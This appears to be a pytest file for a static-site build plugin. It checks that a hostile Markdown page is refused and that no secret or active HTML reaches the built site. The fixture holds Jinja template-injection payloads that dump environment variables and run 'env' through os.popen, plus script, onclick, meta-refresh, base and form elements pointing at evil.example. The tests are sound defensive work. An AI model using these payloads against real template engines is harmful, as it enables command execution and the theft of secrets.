"""A page that tries to run code and to hold HTML that acts: refused, and harmless where the refusal is taken away."""

import subprocess
import sys

import lxml.html
import pytest

from tests.site.workplace import PATIENCE, Workplace

PAGE = """---
page: strange
title: "{{ cycler.__init__.__globals__.os.environ }}"
---
# A page

{{ cycler.__init__.__globals__.os.popen('env').read() }} {{ config }} {{ environment }}

<script src="own.js"></script>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<b onclick="alert(1)">words</b> <base href="https://evil.example/">

<form action="https://evil.example/"><input name="a"></form>
"""
SECRET = "the-token-of-the-job"  # noqa: S105 - of this test alone


@pytest.fixture
def hostile(small):
    (small.folder / "docs/nl/strange.md").write_text(PAGE, "utf-8")
    (small.folder / "docs/nl/own.js").write_text("globalThis.harm = 1", "utf-8")
    return small


def test_check_and_every_build_refuse_it(hostile: Workplace):
    checked = subprocess.run(
        [sys.executable, "-m", "macros", "check"],
        cwd=hostile.folder,
        capture_output=True,
        text=True,
        timeout=PATIENCE,
        check=False,
    )
    assert checked.returncode == 1
    for place in ("strange.md:3:", "strange.md:7:1:", "strange.md:9:1:", "strange.md:11:1:", "own.js:1:1:"):
        assert f"docs/nl/{place}" in checked.stdout
    process = hostile.start("build", TOKEN=SECRET)
    said, _ = process.communicate(timeout=PATIENCE)
    assert process.returncode != 0
    assert SECRET not in said
    assert not hostile.site.exists()


def test_past_every_check_no_secret_and_nothing_that_acts_is_on_the_page(hostile: Workplace):
    hostile.edit("macros/site/events.py", "return any(finding.severity", "return False and any(finding.severity")
    hostile.edit("macros/site/publication.py", "        self._check()\n", "        assert self._check\n")
    hostile.edit(
        "macros/__init__.py", "    refuse_findings(env.page, build_of(env.conf))", "    assert refuse_findings"
    )
    # Jinja refuses the page as a whole; the HTML of one without code gets as far as a page can.
    body = PAGE.partition("\n# A page\n")[2].partition("\n\n")[2].partition("\n\n")[2]
    (hostile.folder / "docs/nl/acting.md").write_text(f"# Another page\n\n{body}", "utf-8")
    process = hostile.start("build", TOKEN=SECRET)
    said, _ = process.communicate(timeout=PATIENCE)
    assert (hostile.site / "acting/index.html").exists(), said
    for page in hostile.site.rglob("*.html"):
        assert SECRET not in page.read_text("utf-8"), page
    for name in ("strange", "acting"):
        tree = lxml.html.parse(hostile.site / name / "index.html").getroot()
        article = tree.find(".//main")
        assert article.xpath(".//script | .//meta | .//base | .//form | .//input | .//@onclick") == []
    assert "words" in article.text_content()
